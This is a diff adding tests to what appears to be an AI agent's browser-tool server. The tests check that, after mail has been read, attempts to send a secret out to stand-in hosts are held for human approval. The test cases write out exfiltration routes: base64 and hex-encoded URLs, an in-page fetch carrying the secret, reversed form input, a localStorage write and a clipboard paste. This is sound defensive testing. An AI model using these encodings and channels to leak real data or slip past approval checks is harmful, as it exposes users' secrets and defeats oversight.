@@ -105,3 +105,32 @@ it('one card is for the typing and for the text', async () => {
     .poll(async () => (await rig.server.call('interact', { fields: { Message: SECRET } })).text)
     .not.toContain('error');
 });
+
+const base64 = Buffer.from(SECRET).toString('base64url');
+const hex = Buffer.from(SECRET).toString('hex');
+
+it.each<[tool: string, host: string, args: (at: (path: string) => string) => Record<string, unknown>]>([
+  ['fetch', 'out-a.test', (at) => ({ url: at(`/?q=${base64}`) })],
+  ['tabs', 'out-b.test', (at) => ({ action: 'open', url: at(`/${hex}`) })],
+  ['crawl', 'out-c.test', (at) => ({ urls: [at(`/?${encodeURIComponent(SECRET.toUpperCase())}`)] })],
+  ['evaluate', 'out-d.test', () => ({ code: `() => fetch('/?q=' + ${JSON.stringify(SECRET)})` })],
+  ['interact', 'out-e.test', () => ({ steps: [`fill label=Message ${[...SECRET].reverse().join('')}`] })],
+  ['storage', 'out-f.test', () => ({ action: 'set', area: 'local', name: 'x', value: SECRET })],
+  ['interact', 'out-g.test', () => ({ steps: ['click label=Message', 'press ControlOrMeta+V'] })],
+])('%s asks on its way to %s, where a rule allows all acts', async (tool, host, args) => {
+  await rig.setRules([{ id: 'acts', sites: ['*'], effect: 'allow' }]);
+  const isInPage = ['evaluate', 'interact', 'storage'].includes(tool);
+  if (isInPage) await rig.ok('navigate', { url: rig.at(host) });
+  await readMail();
+  if (host === 'out-g.test') await rig.server.call('interact', { steps: ['press ControlOrMeta+C'] });
+  if (isInPage) await rig.ok('navigate', { url: rig.at(host) });
+  asked.length = 0;
+  const answer = await rig.server.call(
+    tool,
+    args((path) => rig.at(host, path)),
+  );
+  expect(answer.code(), answer.text).toBe('approval_required');
+  expect(await person.card()).toContain('mail.test');
+  expect(sent(host).filter((one) => !one.endsWith('/favicon.ico'))).toEqual([]);
+  await person.deny('Not there.');
+});
